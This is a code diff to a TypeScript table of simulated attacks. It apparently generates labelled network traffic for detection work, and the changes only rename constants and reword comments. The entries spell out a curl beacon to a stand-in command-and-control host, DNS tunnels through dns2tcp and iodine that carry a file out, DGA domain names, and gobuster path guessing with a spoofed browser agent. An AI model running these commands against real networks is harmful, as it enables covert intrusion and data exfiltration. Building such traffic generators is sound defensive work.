@@ -1,4 +1,4 @@
-/** The table of attacks: who makes which, by what tool, when, and what tells its connections apart. */
+/** The table of attacks: who makes which, with what tool, when, and the rule that finds its connections. */
 import { nameWords } from '../chance/host-names';
 import type { Random } from '../chance/random';
 import { args } from '../clients/args';
@@ -39,7 +39,7 @@ export interface Attack {
   readonly to: string;
   /** How the tool is run: the `time`th time, from 0. */
   readonly run: (files: OfficeFiles, time: number, names: readonly string[]) => Run;
-  /** How often, if more than once: in a recording of some minutes, every so many seconds, give or take a share. */
+  /** If it runs more than once: how often in a recording, the seconds between two runs, and the share by which these vary. */
   readonly repeat?: {
     readonly times: (minutes: number) => number;
     readonly every: number;
@@ -53,10 +53,10 @@ export interface Attack {
 const { dns, files, intra, log, mail } = servers;
 const { beacon, drop } = attackers;
 
-/** The agent of a browser, behind which path guessing hides on the second day. */
-const borrowedAgent = 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0';
-const windowsAgent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';
-const tunnelKey = 'k3y';
+/** The agent of a browser, which path guessing gives as its own on the second day. */
+const BORROWED_AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0';
+const WINDOWS_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';
+const TUNNEL_KEY = 'k3y';
 
 const nmap = debian('nmap');
 const hydra = debian('hydra');
@@ -91,7 +91,7 @@ const some = (count: number, every: number, jitter = 0.3) => ({
 const top = (random: Random): string => random.pick(['example', 'test']);
 const namesOf = (count: number, label: (random: Random) => string) => (random: Random) =>
   Array.from({ length: count }, () => `${label(random)}.${top(random)}`);
-const letters = 'abcdefghijklmnopqrstuvwxyz';
+const LETTERS = 'abcdefghijklmnopqrstuvwxyz';
 
 /** Names on standard input, and how long to wait on average between two, in seconds. */
 const resolveThem: Attack['run'] = (_, __, names) => ({
@@ -109,7 +109,7 @@ export const attacks: readonly Attack[] = [
     ...{ set: 'first', at: 0.05, name: 'beacon-http', technique: 'T1071.001', tool: curl },
     ...{ from: 'c7', to: `${beacon.address}:80`, repeat: throughout(20, 0.2), rule: toItsServer },
     run: (_, time) => ({
-      args: args`-s -o got -A ${windowsAgent} http://${beacon.name}/s?id=7f3a&n=${time}`,
+      args: args`-s -o got -A ${WINDOWS_AGENT} http://${beacon.name}/s?id=7f3a&n=${time}`,
     }),
   },
   {
@@ -141,14 +141,14 @@ export const attacks: readonly Attack[] = [
     ...{ set: 'first', at: 0.4, name: 'dns-tunnel', technique: 'T1071.004', tool: dns2tcp },
     ...{ from: 'c8', to: tunnelZones.first, rule: zone },
     run: ({ key, www }) => ({
-      args: [tunnelZones.first, dns, tunnelKey, key, `${www}/f9.png`],
+      args: [tunnelZones.first, dns, TUNNEL_KEY, key, `${www}/f9.png`],
       seconds: 150,
     }),
   },
   {
     ...{ set: 'first', at: 0.55, name: 'dga', technique: 'T1568.002', tool: resolver },
     ...{ from: 'c7', to: '*.dga', rule: generatedName, run: resolveThem },
-    names: namesOf(250, (random) => random.text(11 + random.integer(9), letters)),
+    names: namesOf(250, (random) => random.text(11 + random.integer(9), LETTERS)),
   },
   {
     ...{ set: 'first', at: 0.63, name: 'path-guessing', technique: 'T1595.003', tool: gobuster },
@@ -226,7 +226,7 @@ export const attacks: readonly Attack[] = [
     ...{ set: 'second', at: 0.46, name: 'dns-tunnel', technique: 'T1048', tool: iodine },
     ...{ from: 'c2', to: tunnelZones.second, rule: zone },
     run: ({ www }) => ({
-      args: [tunnelZones.second, dns, tunnelKey, 'TXT', `${www}/f9.png`],
+      args: [tunnelZones.second, dns, TUNNEL_KEY, 'TXT', `${www}/f9.png`],
       seconds: 170,
     }),
   },
@@ -240,7 +240,7 @@ export const attacks: readonly Attack[] = [
     ...{ from: 'c6', to: `${intra}:80`, rule: agent(/rv:115\.0/) },
     run: ({ paths }) => ({
       args: args`
-        dir -q -a ${borrowedAgent} -u http://${intra}/ -w ${paths} -t 1 --delay 80ms`,
+        dir -q -a ${BORROWED_AGENT} -u http://${intra}/ -w ${paths} -t 1 --delay 80ms`,
       seconds: 120,
     }),
   },
@@ -292,7 +292,7 @@ export const attacks: readonly Attack[] = [
     ...{ set: 'third', at: 0.42, name: 'dns-tunnel', technique: 'T1048', tool: iodine },
     ...{ from: 'c8', to: tunnelZones.third, rule: zone },
     run: ({ www }) => ({
-      args: [tunnelZones.third, dns, tunnelKey, 'CNAME', `${www}/f9.png`],
+      args: [tunnelZones.third, dns, TUNNEL_KEY, 'CNAME', `${www}/f9.png`],
       seconds: 170,
     }),
   },
